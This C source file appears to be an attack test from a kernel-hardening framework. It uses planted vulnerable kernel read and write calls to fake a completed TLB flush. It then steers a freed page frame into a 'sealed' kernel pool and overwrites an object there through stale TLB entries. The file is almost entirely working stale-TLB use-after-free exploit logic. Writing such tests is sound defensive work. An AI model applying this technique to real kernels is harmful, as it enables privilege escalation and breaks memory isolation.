/*
 * One processor has pages in its TLB, and stays in user mode while another gives them back. The
 * kernel is told that the first one has flushed already, so the other does not wait for it. Then a
 * sealed pool gets one of the frames, and the first processor writes to it.
 */
#include <sys/mman.h>

#include "attack.h"

#define OTHER_VALUE 0x0bad0bad0bad0badul
enum { CPU_OF_UNMAPPER, CPU_OF_WRITER, NR_CPUS };
/* Of a round; those of the next one follow. */
enum { STAGE_READY = 1, STAGE_WARM, STAGE_WARMED, STAGE_STORE, NR_STAGES = STAGE_STORE };
enum { ROUNDS = 1000, NR_PAGES = 32, NR_GIVEN = 2, NR_FILLER = 128, FRAME_BYTES = 8 };

static attack_stage stage;
static struct bw_leak leak, of_writer;

/* The pages that are given back: where, and which frames they had. */
static struct {
	volatile char *address;
	uint64_t pfn;
} given[NR_GIVEN];
static volatile size_t nr_given;
static volatile uint64_t *volatile target; /* NULL: none of them is the pool's */

static void tell(unsigned int round_nr, unsigned int which)
{
	attack_tell(&stage, round_nr * NR_STAGES + which);
}

/* ---- The processor that writes ---- */

/* No system call: without PCIDs each flushes. */
static void await(unsigned int round_nr, unsigned int which)
{
	while (stage < round_nr * NR_STAGES + which) {
		__builtin_ia32_pause();
	}
}

static void writer(void *unused)
{
	(void)unused;
	for (unsigned int nr = 0;; nr++) {
		attack_leak(&of_writer);
		tell(nr, STAGE_READY);
		await(nr, STAGE_WARM);
		for (size_t i = 0; i < nr_given; i++) {
			*given[i].address = 1;
		}
		tell(nr, STAGE_WARMED);
		await(nr, STAGE_STORE);
		if (target != NULL) {
			*target = OTHER_VALUE;
		}
	}
}

/* ---- The one that unmaps ---- */

static bool is_among(const uint64_t pfns[NR_PAGES], uint64_t pfn)
{
	for (size_t i = 0; i < NR_PAGES; i++) {
		if (pfns[i] == pfn) {
			return true;
		}
	}
	return false;
}

/* Pages whose frames join no larger block when they are free, as their neighbours stay ours: the
 * kernel takes them next when it needs a single frame. */
static void choose(char *pages)
{
	uint64_t pfns[NR_PAGES];

	for (size_t i = 0; i < NR_PAGES; i++) {
		pfns[i] = attack_pfn(pages + i * BW_PAGE_SIZE);
	}
	nr_given = 0;
	for (size_t i = 0; i < NR_PAGES && nr_given < NR_GIVEN; i++) {
		if (pfns[i] % 2 == 1 && is_among(pfns, pfns[i] - 1)) {
			given[nr_given].address = pages + i * BW_PAGE_SIZE;
			given[nr_given++].pfn = pfns[i];
		}
	}
}

/* Of this address space's user half: the frame of its shadow root, the next one, has it. */
static uint64_t newest_generation(void)
{
	return (uint64_t)bw_vuln_read(leak.frames + (leak.root + 1) * FRAME_BYTES) >> 32;
}

static void store(uint64_t value)
{
	attack_check("vuln_write", bw_vuln_write(of_writer.tlb_slot, value));
}

/* Each page raises the generation. The word is right again before the writer enters the kernel. */
static void give_back(void)
{
	uint64_t before = (uint64_t)bw_vuln_read(of_writer.tlb_slot);

	if ((uint32_t)before != leak.root) {
		return;
	}
	for (size_t i = 0; i < nr_given; i++) {
		store(leak.root | (newest_generation() + 1) << 32);
		madvise((void *)given[i].address, BW_PAGE_SIZE, MADV_DONTNEED);
	}
	store(before);
}

static volatile uint64_t *find_object(const struct bw_sealed_object *object)
{
	for (size_t i = 0; i < nr_given; i++) {
		if (given[i].pfn == object->pfn) {
			return (volatile uint64_t *)(volatile void *)(given[i].address +
								      object->object %
									      BW_PAGE_SIZE);
		}
	}
	return NULL;
}

static void pool_born(struct bw_sealed_object *object)
{
	long status = bw_vuln_pool_born(1, object);

	attack_check("vuln_pool_born", status);
	if (status < 0) {
		attack_skip("no pool to be had");
	}
}

/* Does the sealed object change? */
static bool try_once(unsigned int nr)
{
	char *filler = attack_pages(NR_FILLER * BW_PAGE_SIZE);
	char *pages = attack_pages(NR_PAGES * BW_PAGE_SIZE);
	struct bw_sealed_object object;
	bool is_changed;

	attack_await(&stage, nr * NR_STAGES + STAGE_READY, AWAIT_SPIN);
	choose(pages);
	/* the processor's own stock of frames is full then */
	munmap(filler, NR_FILLER * BW_PAGE_SIZE);
	tell(nr, STAGE_WARM);
	attack_await(&stage, nr * NR_STAGES + STAGE_WARMED, AWAIT_SPIN);
	give_back();
	pool_born(&object);
	target = find_object(&object);
	tell(nr, STAGE_STORE);
	attack_await(&stage, (nr + 1) * NR_STAGES + STAGE_READY, AWAIT_SPIN);
	is_changed = bw_vuln_read(object.object) != 0;
	if (!is_changed) {
		bw_vuln_pool_destroy(object.object);
	}
	munmap(pages, NR_PAGES * BW_PAGE_SIZE);
	return is_changed;
}

int main(void)
{
	struct bw_sealed_object object;
	unsigned int nr = 0;
	bool is_changed = false;

	attack_begin(&leak, NR_CPUS, CPU_OF_UNMAPPER);
	/* the first one has the kernel take back those of attacks before */
	pool_born(&object);
	attack_thread(CPU_OF_WRITER, writer, NULL);
	attack_await(&stage, STAGE_READY, AWAIT_YIELD);
	attack_say("CPU %d stays in user mode, with pages in its TLB that CPU %d gives back; the "
		   "word at 0x%lx says that it has flushed them",
		   CPU_OF_WRITER, CPU_OF_UNMAPPER, of_writer.tlb_slot);
	while (!is_changed && nr < ROUNDS) {
		is_changed = try_once(nr++);
	}
	attack_say("after %u tries the sealed object %s", nr,
		   is_changed ? "is changed" : "is as it was");
	return attack_finish();
}
